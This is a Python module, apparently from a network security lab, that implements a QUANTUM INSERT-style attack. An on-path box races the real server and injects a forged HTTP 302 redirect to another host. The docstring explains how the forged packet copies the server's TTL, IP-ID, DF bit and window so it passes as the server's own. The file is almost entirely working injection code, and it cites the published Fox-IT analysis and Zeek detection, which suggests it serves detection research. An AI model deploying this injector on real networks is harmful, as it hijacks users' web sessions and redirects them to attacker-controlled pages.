"""Quantum-Insert-style race: a forged HTTP 302 in the server's name, ahead of the real answer.

Imitates QUANTUM INSERT as documented by Fox-IT ("Deep dive into QUANTUM INSERT", 2015, with
its detection by duplicate TCP segments carrying other payloads, also Zeek's
`rexmit_inconsistency`): an on-path box that sees the request races the server with its own
answer, a `302 Found` redirecting the client elsewhere, built at the sequence and
acknowledgement numbers the server's answer will carry; the client keeps whichever arrives
first. The request is not dropped, so the server's real answer arrives a round trip later with
the same sequence numbers and other bytes. A careful injector dresses the answer as the server's:
here the TTL the server's packets leave this router with, their DF bit, the last IP-ID seen + 1
and the server's window (see `_face`). The redirect is one PSH/ACK (no FIN), shorter than the
server's answer, so every byte it claims is one the server also sends. It listens in PREROUTING,
as the lab's other taps do: the documented QUANTUM deployments are passive taps beside the path
(TURMOIL), which see a packet before the next router's TTL check.
"""

from . import _common, _face, _packets

REDIRECT = (b"HTTP/1.1 302 Found\r\nLocation: http://198.51.100.66/landing\r\n"
            b"Content-Length: 0\r\n\r\n")


def main() -> None:
    args = _common.parser("quantum", __doc__, queue=21, where="prerouting").parse_args()
    sender = _common.RawSender()
    faces = _face.ServerFaces(args.where)
    answered = _common.FlowMemory()

    def on_packet(packet) -> None:
        data = packet.get_payload()
        seg = _packets.parse(data)
        if seg is not None and seg.sport == args.port:
            faces.learn(seg, data)
        elif seg is not None and _common.is_trigger(seg.payload, args.trigger) and seg.flow not in answered:
            answered.put(seg.flow)
            sender.send(faces.forged_answer(seg, flags="PA", payload=REDIRECT))
        packet.accept()

    _common.main_queue("quantum", args.queue, on_packet,
                       _common.server_and_trigger_rules(args.where, args.port, args.trigger, args.queue))


if __name__ == "__main__":
    main()
